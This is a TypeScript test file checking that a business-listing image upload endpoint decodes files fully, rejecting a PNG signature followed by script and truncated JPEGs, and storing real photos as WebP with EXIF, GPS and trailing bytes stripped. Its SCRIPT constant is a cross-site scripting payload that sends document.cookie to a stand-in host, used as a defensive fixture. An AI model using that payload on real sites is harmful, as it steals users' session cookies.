// Issue 42: listing-photo uploads are decoded in full by the decoder site photos use (storage/decode-image.ts),
// not judged by their first bytes: a PNG signature followed by a script is refused, and a real photo is stored
// re-encoded from its pixels, without its metadata or anything after its image data.
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import listingImage from '../../functions/business-listing-image.mts';
import files from '../../functions/files.mts';
import { fileStore } from '../../src/server/storage/storage.ts';
import { uploadedImagePrefix } from '../../src/server/listings/listing-images.ts';
import { IMAGE_UNREADABLE_MESSAGE } from '../../src/shared/images.ts';
import { call } from './helpers.ts';
import { registerAccount, type TestAccount } from './accounts-helpers.ts';
import { sendUpload, useUploadHost } from './upload-helpers.ts';

useUploadHost();

const SCRIPT = '<script>fetch("https://evil.example/?c=" + document.cookie)</script>';
const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];

function upload(account: TestAccount, bytes: Uint8Array, type: string, name: string) {
  const body = new FormData();
  body.set('image', new File([new Uint8Array(bytes)], name, { type }));
  return sendUpload(listingImage, '/api/business/listing-image', {
    method: 'POST',
    body,
    headers: { cookie: account.cookie },
  });
}

const storedKeys = (account: TestAccount) =>
  fileStore('uploads').list(uploadedImagePrefix(account.id).slice('/files/'.length));

describe('POST /api/business/listing-image decodes the whole file', () => {
  it('refuses a PNG signature followed by a script with a 400 naming the field, and stores nothing', async () => {
    const account = await registerAccount();
    const bytes = new Uint8Array([...PNG_SIGNATURE, ...new TextEncoder().encode(SCRIPT)]);
    const res = await upload(account, bytes, 'image/png', 'photo.png');
    expect(res).toMatchObject({
      status: 400,
      body: { error: { code: 'validation_failed', fields: { image: [IMAGE_UNREADABLE_MESSAGE] } } },
    });
    expect((res.body as { error: { message: string } }).error.message).toBe(`image: ${IMAGE_UNREADABLE_MESSAGE}`);
    expect(await storedKeys(account)).toEqual([]);
  });

  it('refuses a truncated photo (a real JPEG cut in half)', async () => {
    const account = await registerAccount();
    const jpeg = await sharp({ create: { width: 640, height: 480, channels: 3, background: '#1d3557' } })
      .jpeg()
      .toBuffer();
    const res = await upload(account, jpeg.subarray(0, jpeg.length / 2), 'image/jpeg', 'half.jpg');
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({ error: { fields: { image: [IMAGE_UNREADABLE_MESSAGE] } } });
  });

  it('stores a real photo re-encoded as WebP: upright, no EXIF or GPS, nothing after its pixels', async () => {
    const account = await registerAccount();
    // A 2400×1200 camera photo with a copyright, GPS position and orientation, and a script after its data.
    const photo = await sharp({ create: { width: 2400, height: 1200, channels: 3, background: '#e76f51' } })
      .jpeg()
      .withExif({ IFD0: { Copyright: 'Jane Owner' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '53/1 32/1 0/1' } })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    expect(await sharp(photo).metadata()).toMatchObject({ orientation: 6, exif: expect.any(Buffer) });
    expect(photo.includes('Jane Owner')).toBe(true);
    const bytes = new Uint8Array([...photo, ...new TextEncoder().encode(SCRIPT)]);
    const res = await upload(account, bytes, 'image/jpeg', 'shop.jpg');
    expect(res.status).toBe(201);
    const { url } = res.body as { url: string };
    expect(url).toMatch(new RegExp(`^/files/listing-images/${account.id}/[0-9a-f-]{36}\\.webp$`));

    const served = await call(files, url);
    expect(served.headers.get('content-type')).toBe('image/webp');
    const stored = (await fileStore('uploads').get(url.slice('/files/'.length)))!.data;
    const meta = await sharp(stored).metadata();
    // Turned upright by its orientation (6: a quarter turn); 1200 wide, so not narrowed (1600 px at most).
    expect(meta).toMatchObject({ format: 'webp', width: 1200, height: 2400 });
    expect(meta.exif).toBeUndefined();
    expect(meta.xmp).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
    expect(Buffer.from(stored).includes('script')).toBe(false);
    expect(Buffer.from(stored).includes('Jane Owner')).toBe(false);
  });
});
